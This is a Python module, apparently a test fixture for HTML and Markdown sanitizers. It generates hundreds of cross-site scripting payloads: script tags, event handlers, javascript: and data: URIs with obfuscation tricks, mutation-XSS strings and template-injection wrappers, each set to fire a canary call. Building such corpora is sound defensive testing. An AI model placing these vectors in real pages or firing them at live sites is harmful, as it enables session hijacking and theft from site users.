"""Texts that want to run: the shapes that were published over the years, told in our own words and combined.

Each calls `top.hit(number)` where it runs, so that it is known which one did.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from dataclasses import dataclass

LINE, PARAGRAPH = "\N{LINE SEPARATOR}", "\N{PARAGRAPH SEPARATOR}"
UNTIL_IT_IS = "\N{RIGHT-TO-LEFT OVERRIDE}"
NOTHING = "\N{ZERO WIDTH SPACE}"

# HTML that runs by itself, or when somebody points at it; JS stands for what it runs.
SCRIPTS = (
    "<script>JS</script>",
    "<ScRiPt>JS</sCrIpT>",
    "<script/anything>JS</script >",
    '<script src="data:text/javascript,JS"></script>',
    "<script type=module>JS</script>",
    "<svg><script>JS</script></svg>",
    "<svg><script>JS",
    "<math><mtext><script>JS</script></mtext></math>",
    "<script>/*</script><script>*/JS</script>",
    "<!--><script>JS</script-->",
)
EVENTS = (
    "<img src=x onerror=JS>",
    "<img src=x onerror='JS'>",
    '<img/src="x"/onerror="JS">',
    "<img src onerror=JS>",
    "<image src=x onerror=JS>",
    "<svg onload=JS>",
    "<svg/onload=JS//",
    "<svg><g onload=JS></g></svg>",
    "<body onload=JS>",
    "<body onpageshow=JS>",
    "<input autofocus onfocus=JS>",
    "<select autofocus onfocus=JS><option>x</select>",
    "<textarea autofocus onfocus=JS></textarea>",
    "<a tabindex=1 onfocus=JS autofocus>x</a>",
    "<details open ontoggle=JS><summary>x</summary></details>",
    "<video><source onerror=JS></video>",
    "<video src=x onerror=JS></video>",
    "<audio src=x onerror=JS></audio>",
    "<object data=x onerror=JS></object>",
    "<div onclick=JS>x</div>",
    "<p onmouseover=JS>x</p>",
    "<b onpointerenter=JS>x</b>",
    "<i onkeydown=JS tabindex=0>x</i>",
    "<div contenteditable onfocus=JS>x</div>",
    "<style onload=JS></style>",
    '<link rel=stylesheet href="data:text/css," onload=JS>',
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=JS>x</b>",
    "<svg><animate onbegin=JS attributeName=x dur=1s></svg>",
    "<svg><set onbegin=JS attributeName=x></svg>",
    "<marquee onstart=JS>x</marquee>",
    "<button onclick=JS>x</button>",
    "<xss onclick=JS>x</xss>",
)
ADDRESSES = (
    '<a href="javascript:JS">x</a>',
    "<a href=javascript:JS>x</a>",
    '<a href="java&Tab;script&colon;JS">x</a>',
    '<a href="&#106;avascript:JS">x</a>',
    '<a href=" &#14; javascript:JS">x</a>',
    '<svg><a xlink:href="javascript:JS"><text y=20>x</text></a></svg>',
    '<svg><a><animate attributeName=href values="javascript:JS"/><text y=20>x</text></a></svg>',
    '<math><a xlink:href="javascript:JS">x</a></math>',
    '<form action="javascript:JS"><button>x</button></form>',
    '<form><button formaction="javascript:JS">x</button></form>',
    '<form><input type=submit formaction="javascript:JS"></form>',
    '<iframe src="javascript:JS"></iframe>',
    '<iframe srcdoc="<script>JS</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=JS&gt;"></iframe>',
    '<embed src="javascript:JS">',
    '<object data="javascript:JS"></object>',
    '<base href="javascript:/x//"><a href="#JS">x</a>',
    '<meta http-equiv=refresh content="0;url=javascript:JS">',
    '<map name=m><area href="javascript:JS" shape=default></map><img usemap=#m src=x>',
)
# HTML that is another HTML once it was read and written again.
MUTANTS = (
    '<noscript><p title="</noscript><img src=x onerror=JS>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=JS>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=JS src>">',
    '<textarea><img title="</textarea><img src=x onerror=JS>"></textarea>',
    '<title><b title="</title><img src=x onerror=JS>">',
    '<xmp><p title="</xmp><img src=x onerror=JS>">',
    '<template><p title="</template><img src=x onerror=JS>">',
    "<select><style></select><img src=x onerror=JS></style>",
    '<iframe><img title="</iframe><img src=x onerror=JS>">',
    '<noembed><img title="</noembed><img src=x onerror=JS>"></noembed>',
    "<svg><desc><table><thead><s></table></s><img src=x onerror=JS></desc></svg>",
    '<a title="`<img src=x onerror=JS>`">x</a>',
    '<p id="x&quot; onclick=JS y=&quot;">x</p>',
)
# Addresses, wherever one can stand.
LINKS = (
    "javascript:JS",
    "JaVaScRiPt:JS",
    " javascript:JS",
    "\tjavascript:JS",
    "java\tscript:JS",
    "java\nscript:JS",
    "\x01javascript:JS",
    "&#106;avascript:JS",
    "&#x6A;avascript:JS",
    "&#0000106avascript:JS",
    "java&Tab;script:JS",
    "java&NewLine;script:JS",
    "javascript&colon;JS",
    "javascript&#58;JS",
    "javascript&#x3A;JS",
    "&amp;#106;avascript:JS",
    "javascript\\:JS",
    "java\\script:JS",
    "javascript:%74op.hit(NUMBER)",
    "javascript://a.example/%0aJS",
    "javascript://a.example/?%0d%0aJS",
    "javascript:void(0);JS",
    "javascript:JS//https://a.example",
    "feed:javascript:JS",
    "view-source:javascript:JS",
    "jar:javascript:JS",
    "vbscript:JS",
    "livescript:JS",
    "data:text/html,<script>JS</script>",
    "data:text/html;base64,BASE64",
    "data:image/svg+xml,<svg onload='JS' xmlns='http://www.w3.org/2000/svg'/>",
    "data:application/xhtml+xml,<x onload='JS'/>",
    "blob:javascript:JS",
    'https://a.example/" onmouseover="JS',
    "https://a.example/' onmouseover='JS",
    "https://a.example/ onmouseover=JS ",
    'https://a.example/ "onmouseover=JS x=',
    'https://a.example/ "x" onmouseover=JS ',
    "https://a.example/><img src=x onerror=JS>",
    "//a.example/`><img src=x onerror=JS>",
    f"{NOTHING}javascript:JS",
    f"java{NOTHING}script:JS",
    f"{UNTIL_IT_IS}javascript:JS",
    "ｊavascript:JS",
    "javascript：JS",
    "javascript:JS\x00",
    "\x00javascript:JS",
    "x\r\njavascript:JS",
    f"x{LINE}javascript:JS",
)
# What stands around a payload; P stands for it.
AROUND = (
    "P",
    '">P',
    "'>P",
    "`>P",
    "-->P",
    "]]>P",
    "</textarea>P",
    "</title>P",
    "</script>P",
    "</style>P",
    '" autofocus onfocus=JS x="P',
    "' onmouseover=JS x='P",
    "x P x",
    "\nP\n",
    "\r\nP\r\n",
    f"{LINE}P{PARAGRAPH}",
    f"{NOTHING}P{NOTHING}",
    f"{UNTIL_IT_IS}P",
    "\x00P",
    "=P",
    "@P",
    '"/>P',
    "</a>P",
    "<!-- P -->",
    "&P;",
    "{{P}}",
    "${P}",
    "<%= P %>",
    "{{constructor.constructor('JS')()}}P",
)
AROUND_LINKS = (
    *(
        ("", "#x"),
        (" ", " "),
        ("\t", ""),
        ("\\", ""),
        ("&nbsp;", ""),
        ("./", ""),
        ("", "%00"),
        ("\x1b", ""),
        ("<", ">"),
    ),
    *(("", "&#0;"), ("&#1;", ""), ("&#9;", ""), ("url(", ")"), ("'", "'"), ("(", ")"), ("\x7f", ""), ("\ufeff", "")),
)
# The same in Markdown.
MARKED = (
    "P",
    "```\nP\n```",
    "~~~~\n```\nP\n```\n~~~~",
    "```P\nx\n```",
    "```html\nP",
    "`P`",
    "``P`` P",
    "    P",
    "\tP",
    "> P",
    "> > - P",
    "- P\n    P",
    "1. P",
    "# P",
    "P\n===",
    "**P**",
    "_P_",
    "|a|b|\n|-|-|\n|P|`P`|",
    "[P](https://a.example)",
    "[x](https://a.example 'P')",
    '[x](https://a.example "P")',
    "![P](x.png)",
    '![x](x.png "P")',
    "[x]: P\n\n[x]",
    "[x][P]\n\n[P]: https://a.example",
    "[x]: https://a.example 'P'\n\n[x]",
    "\\P",
    "<P>",
    "a<!-- P -->b",
    "<![CDATA[P]]>",
    "<?P?>",
    "&lt;P&gt;",
    "*[P](x)*<P",
    "[![P](P)](P)",
)
LINKED = ("[x](P)", "[x](<P>)", "[x](P 'title')", "[x]: P\n\n[x]", "[x]: <P>\n\n[x]", "<P>", "![x](P)", "[![x](P)](P)")


@dataclass(frozen=True)
class Payload:
    """One of them.

    Args:
        number: what it hits.
        text: as somebody types it.
        is_link: whether it wants to stand where an address does.
    """

    number: int
    text: str
    is_link: bool

    @property
    def raw(self) -> str:
        """As it would stand in a page that does not take care."""
        if not self.is_link:
            return self.text
        return f'<a href="{self.text}">x</a> <img src="{self.text}">'

    @property
    def marked(self) -> list[str]:
        """Texts in Markdown that hold it, in every place where it could stand."""
        around = LINKED if self.is_link else (MARKED[0], MARKED[1 + self.number % (len(MARKED) - 1)])
        return [form.replace("P", self.text) for form in (*around, "[x](P)", "![x](P)")]


def payloads(most: int) -> list[Payload]:
    """So many of them, spread evenly over all there are."""
    every = list(_every())
    step = max(len(every) / most, 1)
    chosen = [every[int(place * step)] for place in range(min(most, len(every)))]
    return [Payload(number, _said(shape, number), is_link) for number, (shape, is_link) in enumerate(chosen)]


def _every() -> Iterator[tuple[str, bool]]:
    html = (*SCRIPTS, *EVENTS, *ADDRESSES, *MUTANTS)
    for around in AROUND:
        for shape in html:
            yield around.replace("P", shape), False
    for shape in LINKS:
        yield shape, True
    for start, end in AROUND_LINKS:
        for shape in LINKS:
            yield f"{start}{shape}{end}", True


def _said(shape: str, number: int) -> str:
    code = f"top.hit({number})"
    encoded = base64.b64encode(f"<script>{code}</script>".encode()).decode()
    return shape.replace("JS", code).replace("NUMBER", str(number)).replace("BASE64", encoded)
